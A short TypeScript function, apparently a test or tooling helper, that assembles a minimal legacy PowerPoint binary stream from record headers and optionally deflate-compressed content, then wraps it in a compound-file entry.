function ppt(object: Buffer, how: "packed" | "plain"): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(object.length)
  const content = how === "packed" ? Buffer.concat([size, deflateSync(object)]) : object
  const head = (version: number, type: number, length: number): Buffer => {
    const bytes = Buffer.alloc(8)
    bytes.writeUInt16LE(version)
    bytes.writeUInt16LE(type, 2)
    bytes.writeUInt32LE(length, 4)
    return bytes
  }
  const inner = Buffer.concat([head(how === "packed" ? 0x10 : 0, 0x1011, content.length), content])
  return compound({ "PowerPoint Document": Buffer.concat([head(0xf, 0x3e8, inner.length), inner]) })
}
